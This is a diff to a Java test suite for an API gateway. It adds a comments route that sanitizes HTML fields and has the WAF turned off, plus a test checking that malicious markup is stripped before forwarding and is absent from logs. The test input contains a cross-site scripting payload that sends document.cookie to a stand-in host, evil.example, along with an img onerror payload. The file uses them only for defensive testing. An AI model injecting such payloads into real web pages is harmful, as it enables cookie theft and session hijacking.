@@ -47,6 +47,16 @@ class ContractGatewayTest {
                             tags: { type: array, items: { type: string } }
                       query: { schema_file: "%s" }
                       limits: { max_array_items: 3 }
+                  - id: comments.create
+                    match: { methods: [POST], path: /comments }
+                    upstream: app
+                    auth: { methods: [api_key] }
+                    contract:
+                      body:
+                        schema: { type: object, required: [body], properties: { body: { type: string, maxLength: 2000 } } }
+                      sanitize_html: [/body, /attachments/*/caption]
+                    # Rich text: the WAF would refuse these bodies outright; this route cleans them instead.
+                    waf: { enabled: false }
                   - id: cards.plain
                     match: { methods: [POST], path: /plain/cards }
                     upstream: app
@@ -100,6 +110,28 @@ class ContractGatewayTest {
         String metrics = gw.send(HttpRequest.newBuilder(gw.adminUri("/metrics")).build()).body();
         assertThat(metrics).containsPattern("bastion_contract_requests_total\\{[^}]*result=\"invalid\"[^}]*route=\"cards.create\"[^}]*} [1-9]")
                 .containsPattern("bastion_contract_requests_total\\{[^}]*result=\"valid\"[^}]*route=\"cards.create\"[^}]*} [1-9]");
+    }
+
+    @Test
+    void namedHtmlFieldsReachTheUpstreamCleanedAndTheDecisionNamesWhereNotWhat() throws Exception {
+        HttpResponse<String> r = gw.postJson("/comments", key,
+                "{\"body\":\"Looks good<script>fetch('https://evil.example/?c='+document.cookie)</script>\",\"attachments\":[{\"caption\":\"<b>fig 1</b>\"},"
+                        + "{\"caption\":\"<img src=x onerror=alert(1)>fig 2\"}]}");
+        assertThat(r.statusCode()).isEqualTo(200);
+        JsonObject forwarded = new JsonObject(gw.upstream.last().body());
+        assertThat(forwarded.getString("body")).isEqualTo("Looks good");
+        assertThat(forwarded.getJsonArray("attachments").getJsonObject(0).getString("caption")).isEqualTo("<b>fig 1</b>");
+        assertThat(forwarded.getJsonArray("attachments").getJsonObject(1).getString("caption")).isEqualTo("fig 2");
+        String line = gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow());
+        JsonObject contract = new JsonObject(line).getJsonObject("contract");
+        assertThat(contract.getString("result")).isEqualTo("valid");
+        assertThat(contract.getJsonArray("sanitized").getList()).containsExactly("/body", "/attachments/1/caption");
+        assertThat(line).doesNotContain("evil.example").doesNotContain("onerror");
+
+        HttpResponse<String> clean = gw.postJson("/comments", key, "{\"body\":\"R&D says <i>ship it</i>\"}");
+        assertThat(clean.statusCode()).isEqualTo(200);
+        assertThat(gw.upstream.last().body().toString()).as("a clean body goes on byte for byte").isEqualTo("{\"body\":\"R&D says <i>ship it</i>\"}");
+        assertThat(new JsonObject(gw.accessLine(clean.headers().firstValue("X-Request-Id").orElseThrow())).getJsonObject("contract").containsKey("sanitized")).isFalse();
     }
 
     @Test
